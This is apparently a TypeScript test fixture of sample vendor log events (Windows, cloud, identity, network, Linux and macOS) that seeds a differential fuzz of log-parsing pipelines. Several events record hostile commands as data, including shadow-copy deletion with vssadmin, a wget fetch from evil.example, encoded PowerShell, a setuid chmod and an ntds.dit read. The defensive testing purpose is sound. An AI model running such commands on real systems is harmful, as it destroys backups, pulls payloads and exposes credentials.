import type { JsonObject, SourceKind } from '../src/types.js';

/** Events as their vendors write them, of every form the pipelines know: what the differential fuzz begins with. */
export const EVENTS: readonly { kind: SourceKind; event: JsonObject }[] = [
  {
    kind: 'windows',
    event: {
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      EventID: 1,
      Hostname: 'WS-042.corp.example',
      Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      CommandLine: '"powershell.exe" -NoP -enc SQBFAFgA /c "whoami /all"',
      ParentImage: 'C:\\Windows\\explorer.exe',
      ParentCommandLine: 'C:\\Windows\\Explorer.EXE',
      User: 'CORP\\ada',
      OriginalFileName: 'PowerShell.EXE',
      Hashes:
        'SHA256=DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C,IMPHASH=7C955A0ABC747F57CCC4324480737EF7',
      Product: 'Microsoft® Windows® Operating System',
      IntegrityLevel: 'High',
      ProcessId: '4242',
      CurrentDirectory: 'C:\\Users\\ada\\',
      tags: ['sensor'],
      Keywords: -9223372036854775808,
    },
  },
  {
    kind: 'windows',
    event: {
      Channel: 'Security',
      EventID: 4688,
      Computer: 'SRV1',
      NewProcessName: 'C:\\Windows\\System32\\vssadmin.exe',
      CommandLine: 'vssadmin Delete Shadows /all /quiet',
      SubjectUserName: 'grace',
      ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
      MandatoryLabel: 'S-1-16-12288',
    },
  },
  {
    kind: 'windows',
    event: {
      Event: {
        System: {
          Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } },
          EventID: 13,
          Channel: 'Microsoft-Windows-Sysmon/Operational',
          Computer: 'WS-043',
        },
        EventData: {
          EventType: 'SetValue',
          TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
          Details: 'C:\\Users\\Public\\up.exe',
          Image: 'C:\\Windows\\regedit.exe',
        },
      },
    },
  },
  {
    kind: 'windows',
    event: {
      winlog: {
        channel: 'Security',
        event_id: '4624',
        provider_name: 'Microsoft-Windows-Security-Auditing',
        event_data: { LogonType: '3', TargetUserName: 'admin', IpAddress: '10.0.0.7', WorkstationName: 'KALI' },
      },
      host: { name: 'dc1' },
      message: 'An account was successfully logged on.',
    },
  },
  {
    kind: 'windows',
    event: {
      Channel: 'System',
      EventID: 7045,
      SourceName: 'Service Control Manager',
      Hostname: 'SRV2',
      EventData: '{"ServiceName":"PSEXESVC","ImagePath":"%SystemRoot%\\\\PSEXESVC.exe","StartType":"demand start"}',
    },
  },
  {
    kind: 'windows',
    event: {
      Channel: 'Microsoft-Windows-Windows Defender/Operational',
      EventID: 1116,
      Hostname: 'WS-044',
      'Threat Name': 'Trojan:Win32/Emotet',
      'Action Name': 'Quarantine',
      Path: 'file:_C:\\Temp\\x.exe',
    },
  },
  {
    kind: 'windows',
    event: {
      Channel: 'Security',
      EventID: 4663,
      Computer: 'SRV3',
      ObjectName: '\\Device\\HarddiskVolume2\\Windows\\NTDS\\ntds.dit',
      AccessMask: '0x10',
      ProcessName: 'C:\\Tools\\naïve café.exe',
      SubjectUserName: 'ÉLODIE',
      Data: ['one', 'two', null, 3],
    },
  },
  {
    kind: 'windows',
    event: {
      Channel: 'Application',
      EventID: 18456,
      Provider: { Name: 'MSSQLSERVER', Guid: '{0}' },
      Computer: 'SQL1',
      Level: 4,
      Data: 'sa [CLIENT: 10.0.0.9]',
    },
  },
  {
    kind: 'aws-cloudtrail',
    event: {
      eventSource: 's3.amazonaws.com',
      eventName: 'PutBucketAcl',
      awsRegion: 'eu-west-3',
      sourceIPAddress: '203.0.113.9',
      userAgent: 'aws-cli/2.0',
      userIdentity: {
        type: 'IAMUser',
        arn: 'arn:aws:iam::1:user/ada',
        sessionContext: { attributes: { mfaAuthenticated: 'false' } },
      },
      requestParameters: { bucketName: 'b', acl: 'public-read' },
      resources: [{ type: 'AWS::S3::Bucket' }, { type: 'AWS::IAM::Role' }],
    },
  },
  {
    kind: 'okta',
    event: {
      eventType: 'user.mfa.factor.deactivate',
      displayMessage: 'Reset factor',
      actor: { alternateId: 'ada@example.com' },
      outcome: { result: 'SUCCESS' },
      securityContext: { isProxy: true },
      target: [{ displayName: 'Bob' }],
    },
  },
  {
    kind: 'suricata',
    event: {
      event_type: 'http',
      src_ip: '10.1.2.3',
      dest_ip: '198.51.100.7',
      dest_port: 8080,
      http: {
        hostname: 'evil.example',
        url: '/a/b.php?cmd=id',
        http_user_agent: 'curl/8.0',
        http_method: 'POST',
        status: 200,
      },
    },
  },
  {
    kind: 'suricata',
    event: {
      event_type: 'alert',
      src_ip: '10.1.2.4',
      dest_port: 443,
      'http.url': '/flat/key',
      proto: 'TCP',
      flow_id: 1234567890123456,
      bytes: 1.5e3,
      ratio: -0,
    },
  },
  {
    kind: 'azure',
    event: {
      time: '2026-11-02T09:00:00.1234567Z',
      resourceId: '/SUBSCRIPTIONS/1/RESOURCEGROUPS/WEB/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINES/VM1',
      operationName: 'MICROSOFT.COMPUTE/VIRTUALMACHINES/DELETE',
      category: 'Administrative',
      resultType: 'Success',
      callerIpAddress: '203.0.113.7',
      identity: {
        claims: { 'http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn': 'ada@example.com', appid: 'a' },
      },
      properties: { requestbody: '{"properties":{"a":true}}' },
    },
  },
  {
    kind: 'azure',
    event: {
      category: 'AuditLogs',
      operationName: 'Update user',
      properties: {
        category: 'UserManagement',
        result: 'success',
        loggedByService: 'PIM',
        initiatedBy: { user: { userPrincipalName: 'ada@example.com' } },
        targetResources: [
          {
            displayName: 'Bob',
            modifiedProperties: [
              { displayName: 'UserType', oldValue: '["Guest"]', newValue: '["Member"]' },
              { displayName: 'UserType', newValue: null },
            ],
          },
        ],
        additionalDetails: [{ key: 'User-Agent', value: 'curl' }],
      },
    },
  },
  {
    kind: 'azure',
    event: {
      Category: 'SignInLogs',
      ResultType: 0,
      properties:
        '{"userPrincipalName":"ada@example.com","authenticationRequirement":"singleFactorAuthentication","deviceDetail":{"isCompliant":false}}',
    },
  },
  {
    kind: 'gcp-audit',
    event: {
      logName: 'projects/p/logs/cloudaudit.googleapis.com%2Factivity',
      protoPayload: {
        methodName: 'v1.compute.firewalls.delete',
        serviceName: 'compute.googleapis.com',
        authenticationInfo: { principalEmail: 'ada@example.com' },
        authorizationInfo: [{ permission: 'compute.firewalls.delete', granted: true }],
        status: {},
      },
      resource: { type: 'gce_firewall_rule' },
    },
  },
  {
    kind: 'm365',
    event: {
      Operation: 'Set-Mailbox',
      Workload: 'Exchange',
      ResultStatus: 'True',
      UserId: 'ada@example.com',
      Parameters: [
        { Name: 'Identity', Value: 'bob' },
        { Name: 'ForwardingSmtpAddress', Value: 'smtp:eve@example.net' },
      ],
      ModifiedProperties: '[{"Name":"Role","NewValue":"x"}]',
    },
  },
  {
    kind: 'google-workspace',
    event: {
      id: { applicationName: 'admin', time: '2026-11-02T09:00:00Z' },
      actor: { email: 'ada@example.com' },
      events: [
        {
          type: 'DELEGATED_ADMIN_SETTINGS',
          name: 'ASSIGN_ROLE',
          parameters: [
            { name: 'ROLE_NAME', value: '_SEED_ADMIN_ROLE' },
            { name: 'SCOPES', multiValue: ['a', 'b'] },
          ],
        },
      ],
    },
  },
  {
    kind: 'github',
    event: {
      action: 'org.add_member',
      actor: 'ada',
      org: 'example',
      created_at: 1700000000000,
      actor_location: { country_code: 'FR' },
      user: 'bob',
      data: { repository: 'example/one' },
    },
  },
  {
    kind: 'linux',
    event: {
      message:
        'type=SYSCALL msg=audit(1793200000.123:77): arch=c000003e syscall=59 success=yes exit=0 a0=55d a1=55e ppid=10 pid=11 uid=0 comm="sh" exe="/bin/dash" key="exec"\ntype=EXECVE msg=audit(1793200000.123:77): argc=3 a0="sh" a1="-c" a2=6375726C20687474703A2F2F78\ntype=CWD msg=audit(1793200000.123:77): cwd="/tmp"',
      host: { name: 'web1' },
    },
  },
  {
    kind: 'linux',
    event: {
      ID: '1793200000.123:78',
      NODE: 'web2',
      SYSCALL: { arch: '0xc000003e', syscall: 257, SYSCALL: 'openat', comm: 'vi', exe: '/usr/bin/vi', uid: 0 },
      PATH: [
        { item: 0, name: '/etc/cron.d/', nametype: 'PARENT' },
        { item: 1, name: '/etc/cron.d/job', nametype: 'CREATE' },
      ],
      CWD: { cwd: '/root' },
    },
  },
  {
    kind: 'linux',
    event: {
      auditd: { message_type: 'syscall', data: { syscall: 'execve', a0: '55d', arch: 'x86_64' } },
      process: { args: ['wget', '-q', 'http://evil.example/a'], executable: '/usr/bin/wget', name: 'wget' },
      event: { module: 'auditd', category: ['process'] },
      host: { name: 'web3' },
    },
  },
  { kind: 'linux', event: { type: 'EXECVE', a0: 'chmod', a1: 'u+s', a2: '/tmp/x', hostname: 'web4', argc: 3 } },
  {
    kind: 'linux',
    event: {
      message: '<86>Nov  2 10:00:00 web1 sudo:      ada : TTY=pts/0 ; PWD=/srv/ada ; USER=root ; COMMAND=/bin/sh -c id',
    },
  },
  {
    kind: 'linux',
    event: {
      MESSAGE: 'Failed password for root from 203.0.113.9 port 4711 ssh2',
      SYSLOG_IDENTIFIER: 'sshd',
      _HOSTNAME: 'web1',
    },
  },
  {
    kind: 'macos',
    event: {
      event_type: 9,
      time: '2026-11-02T09:00:00Z',
      event: {
        exec: {
          args: ['osascript', '-e', 'display dialog "x"'],
          target: { executable: { path: '/usr/bin/osascript' }, signing_id: 'com.apple.osascript' },
        },
      },
      process: { executable: { path: '/bin/zsh' } },
      host: { hostname: 'mac1' },
    },
  },
  {
    kind: 'zeek',
    event: {
      _path: 'http',
      'id.orig_h': '10.1.2.3',
      'id.resp_h': '198.51.100.7',
      'id.resp_p': 80,
      method: 'GET',
      host: 'evil.example',
      uri: '/a?b=1',
      user_agent: 'curl/8.0',
      status_code: 200,
      resp_mime_types: ['text/html'],
    },
  },
  {
    kind: 'zeek',
    event: {
      _path: 'dns',
      id: { orig_h: '10.1.2.3', resp_h: '10.1.1.1' },
      query: 'a.evil.example',
      qtype_name: 'TXT',
      answers: ['aGVsbG8='],
      rejected: false,
    },
  },
  {
    kind: 'web-proxy',
    event: {
      event: {
        url: 'www.evil.example/a/b.php?cmd=id',
        useragent: 'curl/8.0',
        requestmethod: 'GET',
        respcode: '200',
        cip: '10.1.2.3',
        action: 'Allowed',
      },
      sourcetype: 'zscalernss-web',
    },
  },
  {
    kind: 'web-proxy',
    event: {
      url: { original: 'http://evil.example:8080/x.exe?y' },
      http: { request: { method: 'POST' }, response: { status_code: 403 } },
      user_agent: { original: 'Wget/1.2' },
      source: { ip: '10.1.2.3' },
    },
  },
  {
    kind: 'dns',
    event: {
      dns: { question: { name: 'x.evil.example', type: 'TXT' }, answers: [{ data: 'one' }, { data: 'two' }] },
      source: { ip: '10.1.2.3' },
    },
  },
  { kind: 'dns', event: { query_name: 'y.evil.example', qtype: 'A', rcode: 'NXDOMAIN', client_ip: '10.1.2.3' } },
  {
    kind: 'firewall',
    event: {
      devname: 'fw1',
      type: 'traffic',
      subtype: 'forward',
      srcip: '10.1.2.3',
      dstip: '203.0.113.9',
      dstport: 445,
      action: 'deny',
      sentbyte: 120,
    },
  },
  {
    kind: 'web-server',
    event: {
      message: '203.0.113.9 - ada [02/Nov/2026:10:00:00 +0100] "GET /a.php?c=id HTTP/1.1" 200 512 "-" "sqlmap/1.7"',
      host: { name: 'web1' },
    },
  },
  {
    kind: 'web-server',
    event: {
      remote_addr: '203.0.113.9',
      request: 'POST /login HTTP/1.1',
      status: 401,
      http_user_agent: 'Mozilla/5.0',
      service: 'nginx',
      http_host: 'www.example',
    },
  },
  {
    kind: 'mimecast',
    event: {
      type: 'url protect',
      senderAddress: 'mallory@evil.example',
      recipientAddress: 'ada@example.com',
      url: 'http://evil.example/',
      scanResult: 'malicious',
      action: 'block',
    },
  },
  {
    kind: 'lookout',
    event: {
      type: 'THREAT',
      created_time: '2026-11-02T09:00:00.000Z',
      threat: { type: 'MALWARE', risk: 'HIGH', package_name: 'com.evil' },
      device: { guid: 'd1', platform: 'ANDROID', email_address: 'ada@example.com' },
    },
  },
  {
    kind: 'firewall',
    event: {
      message:
        '<189>Nov  2 10:00:00 fw1 CEF:0|Acme|Wall|1.0|100|traffic|3|rt=1793611200250 src=10.1.2.3 spt=4711 dst=203.0.113.9 dpt=445 act=deny msg=two words here\\=x',
      tags: ['syslog'],
    },
  },
  {
    kind: 'firewall',
    event: {
      message:
        'date=2026-11-02 time=10:20:00 devname="fw1" type="traffic" srcip=10.1.2.3 dstip=203.0.113.9 dstport=445 action="deny"',
    },
  },
  {
    kind: 'dns',
    event: {
      message:
        '02-Nov-2026 10:20:00.250 queries: info: client @0x7f0c 10.1.2.3#40000 (x.evil.example): query: x.evil.example IN TXT + (10.1.1.1)',
    },
  },
];
